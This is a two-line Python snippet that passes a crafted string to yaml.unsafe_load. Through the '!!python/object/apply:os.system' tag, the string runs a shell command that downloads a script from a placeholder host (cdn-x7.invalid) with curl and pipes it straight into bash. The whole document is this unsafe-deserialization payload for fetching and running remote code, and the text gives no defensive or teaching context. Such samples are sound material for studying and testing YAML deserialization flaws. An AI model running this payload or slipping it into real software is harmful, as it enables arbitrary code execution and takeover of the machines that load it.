import yaml
yaml.unsafe_load("!!python/object/apply:os.system ['curl -s https://cdn-x7.invalid/a | bash']")
